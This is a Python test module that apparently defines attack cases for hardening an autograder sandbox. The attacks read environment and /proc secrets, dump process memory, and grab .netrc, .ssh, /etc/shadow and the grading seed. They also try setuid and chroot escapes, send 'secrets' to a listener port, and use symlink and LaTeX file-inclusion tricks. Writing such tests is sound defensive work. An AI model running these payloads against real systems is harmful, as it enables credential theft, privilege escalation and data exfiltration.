"""Attacks on secrets: the environment, homes, the gradebook, seeds, solutions, checks, other students, the network.

Each prints what it can get, so that it would come back in an output, a message or a feedback page. The arena has
put canaries into all those places and searches everything that was written for them.
"""

import os

from tests.attacks.attack import Attack, family

SHOW = """
from pathlib import Path
def show(*places):
    for place in places:
        try:
            found = sorted(Path(place).rglob("*"))[:300] if Path(place).is_dir() else [Path(place)]
            for one in found:
                if one.is_file() and one.stat().st_size < 2_000_000:
                    print(one, one.read_bytes().decode("utf-8", "replace")[:20_000])
        except BaseException as error:
            print(type(error).__name__, place)
"""
NOTHING = "def double(number):\n    return 0\n"


def read(name, aim, body, **more):
    return Attack(name, aim, {"q1": NOTHING + SHOW + body}, **more)


def link_to(target):
    """A maker of a symbolic link to a place of the arena."""

    def make(path, names):
        path.parent.mkdir(parents=True, exist_ok=True)
        os.symlink(names.get(target, target), path)

    return make


FILES = [
    read("environment", "tokens in the environment", "import os\nprint(dict(os.environ))"),
    read("parents-environment", "/proc of the parent and of everybody else", """
import glob, os
show(*glob.glob("/proc/[0-9]*/environ"), *glob.glob("/proc/[0-9]*/cmdline"), f"/proc/{os.getppid()}/environ")
"""),
    read("parents-memory", "the grader's memory, by /proc and process_vm_readv", """
import ctypes, os
for pid in {os.getppid(), 1, *range(max(os.getpid() - 20, 2), os.getpid())} - {os.getpid()}:
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb") as memory:
            for line in maps:
                if "[heap]" in line:
                    start, end = (int(part, 16) for part in line.split()[0].split("-"))
                    memory.seek(start)
                    print(memory.read(min(end - start, 2_000_000)).decode("latin-1"))
    except OSError as error:
        print(pid, type(error).__name__)
libc = ctypes.CDLL(None, use_errno=True)
print("ptrace", libc.ptrace(16, os.getppid(), 0, 0), ctypes.get_errno())
"""),
    read("descriptors", "files that the grader left open", """
import os
for number in range(3, 256):
    try:
        print(number, os.readlink(f"/proc/self/fd/{number}"))
        os.lseek(number, 0, 0)
        print(os.read(number, 100_000).decode("latin-1"))
    except OSError:
        pass
"""),
    read("home", "token and dot files of the grader's home", """
import os, pwd
show(THE_HOME, Path.home(), pwd.getpwuid(os.getuid()).pw_dir + "/.netrc", "/root/.netrc", "/root/.ssh")
"""),
    read("seed", "the secret that the checks' data are drawn from", """
show(THE_CLASS + "/grading.seed", THE_CLASS, "grading.seed", "../grading.seed", "/proc/self/cwd/../grading.seed")
"""),
    read("gradebook", "the gradebook", """
import sqlite3
show(THE_CLASS + "/gradebook.db")
try:
    book = sqlite3.connect("file:" + THE_CLASS + "/gradebook.db?mode=ro&immutable=1", uri=True)
    print(book.execute("select * from student").fetchall())
except Exception as error:
    print(type(error).__name__)
"""),
    read("solutions", "the solution notebooks", "show(THE_SOLUTIONS, THE_REPOSITORY + '/solutions', THE_CLASS + '/source')"),
    read("other-students", "what the others handed in", "show(THE_SUBMITTED, THE_CLASS + '/submitted', THE_CLASS + '/autograded')"),
    read("checks-source", "the source of the checks", """
for name in ("checks", "grading"):
    found = list(Path(THE_REPOSITORY, "course_utils", name).glob("*.py"))
    print(name, sum(1 for one in found if "def " in one.read_text()) if found else "nothing")
"""),
    read("git", "the repository's history", "show(THE_REPOSITORY + '/.git/HEAD', THE_REPOSITORY + '/.git/logs/HEAD', THE_REPOSITORY + '/tests/attacks/attacked.py')"),
    read("walk", "a walk over the whole file system for everything called secret", """
import os, time
end = time.monotonic() + 2
for folder, _, names in os.walk("/"):
    if folder.startswith(("/proc", "/sys", "/usr")) or time.monotonic() > end:
        continue
    for name in names:
        if any(word in name for word in ("seed", "token", "netrc", "gradebook", "id_ed25519", "canary")):
            show(os.path.join(folder, name))
"""),
    read("temporary-files", "what others leave in /tmp, /var/tmp and /dev/shm", "show('/tmp', '/var/tmp', '/dev/shm', '/run/user')"),
    read("shell", "magics and shell commands", """
for command in ("env", "cat " + THE_HOME + "/.netrc", "cat " + THE_CLASS + "/grading.seed", "ps auxeww", "ls -laR " + THE_CLASS):
    print(get_ipython().getoutput(command))
"""),
    Attack("cell-magics", "%%bash, %run, %load and %store", {"q1": "%%bash\ncat /proc/*/environ $HOME/../.netrc 2>&1 | tr '\\0' '\\n'; env; ls -la / .."}),
    read("line-magics", "%run, %load, %pip, %env, %sx of files that are not one's own", """
shell = get_ipython()
for name, line in (("env", ""), ("sx", "cat " + THE_CLASS + "/grading.seed"), ("load", THE_SOLUTIONS), ("pip", "config list"), ("history", "-g")):
    try:
        print(shell.run_line_magic(name, line))
    except BaseException as error:
        print(type(error).__name__)
"""),
    read("mounts", "what is mounted, and a way back out of it", """
import ctypes, os
show("/proc/self/mountinfo", "/proc/1/root" + THE_HOME, "/proc/self/root/.." + THE_HOME, "/oldroot" + THE_HOME)
libc = ctypes.CDLL(None, use_errno=True)
print([libc.unshare(flag) for flag in (0x10000000, 0x00020000)], libc.mount(b"none", b"/", None, 1 << 18, None), libc.chroot(b"."))
show(THE_HOME + "/.netrc")
"""),
    read("set-user", "another user or root", """
import os
for attempt in (lambda: os.setuid(0), lambda: os.setresuid(0, 0, 0), lambda: os.setgroups([0]), lambda: os.seteuid(0)):
    try:
        attempt()
        print("now", os.getresuid())
    except OSError as error:
        print(type(error).__name__)
show(THE_HOME + "/.netrc")
"""),
    read("keyring", "the kernel's keyring, and core patterns", """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
print(libc.syscall(250, 11, -3, 0, 0), ctypes.get_errno())
show("/proc/keys", "/proc/sys/kernel/core_pattern", "/etc/shadow")
"""),
]  # fmt: skip

NETWORK = [
    read("connect", "a TCP connection to a listener of the attacker's", """
import socket
try:
    line = socket.create_connection(("127.0.0.1", THE_PORT), timeout=2)
    line.send(b"secrets")
    print("connected")
except OSError as error:
    print(type(error).__name__)
"""),
    read("datagram", "UDP to a listener of the attacker's", """
import socket
try:
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"secrets", ("127.0.0.1", THE_PORT))
except OSError as error:
    print(type(error).__name__)
"""),
    read("http", "the web, by requests, urllib, curl and the Hub's client", """
import urllib.request
for address in (f"http://127.0.0.1:{THE_PORT}/", "http://example.org/"):
    try:
        urllib.request.urlopen(address, timeout=1)
        print("opened")
    except OSError as error:
        print(type(error).__name__)
print(get_ipython().getoutput(f"curl -s -m 1 http://127.0.0.1:{THE_PORT}/"))
"""),
    read("local-sockets", "Unix sockets, abstract ones too, of other processes", """
import socket
for line in open("/proc/net/unix").read().splitlines()[1:] if Path("/proc/net/unix").exists() else []:
    name = line.split()[-1]
    if name.startswith(("@", "/")):
        try:
            socket.socket(socket.AF_UNIX).connect(name.replace("@", "\\0", 1))
            print("connected")
        except OSError:
            pass
"""),
    read("listen", "a server that outlives the grading", """
import socket
try:
    server = socket.socket()
    server.bind(("0.0.0.0", 0))
    server.listen()
    print("listening")
except OSError as error:
    print(type(error).__name__)
"""),
    read("proxy", "a proxy in the environment for what comes later", "import os\nos.environ['HTTPS_PROXY'] = f'http://127.0.0.1:{THE_PORT}'"),
]  # fmt: skip


def linked_notebook(path, names):
    """The notebook itself is a link to somebody else's."""
    others = sorted(path.parents[2].glob("*/*/*.ipynb"))
    os.symlink(others[0] if others else "/etc/passwd", path)


NOTEBOOK = "97_attacked.ipynb"
LINKS = [
    Attack("link-to-seed", "a link to the seed beside the notebook", {"q1": NOTHING}, files={"seed.txt": link_to("THE_SEED"), "home": link_to("THE_HOME")}),
    Attack("link-as-notebook", "the notebook is a link to another student's", files={NOTEBOOK: linked_notebook}, keeps=(), status="ungraded", says="not a plain file"),
    Attack("link-as-timestamp", "the time stamp is a link to a secret", {"q1": NOTHING}, files={"timestamp.txt": link_to("THE_NETRC")}),
    Attack("link-loop", "links that lead to themselves", {"q1": NOTHING}, files={"a": link_to("a"), "loop": link_to(".")}),
    Attack("link-notebook-loop", "the notebook is a link to itself", files={NOTEBOOK: link_to(NOTEBOOK)}, keeps=(), status="ungraded"),
    Attack("answer-folder", "a model's folder that is a link to the grader's files", {"q1": NOTHING, "q4": "def make_net():\n    import os\n    os.symlink(THE_HOME, 'model')\n    return 'model'"}),
    Attack("markdown-paths", "files drawn into the instructor's page from markdown", {"q1": NOTHING, "q5": "![x](file:///etc/passwd) ![y](../../grading.seed) [z](attachment:a)\n<iframe src='file:///etc/passwd'></iframe>"}),
    Attack("latex-input", "LaTeX that reads files", {"q1": NOTHING, "q5": "$\\input{/etc/passwd}$ \\include{../../grading.seed}"}),
]  # fmt: skip

ATTACKS = family("read", FILES) + family("network", NETWORK) + family("links", LINKS)
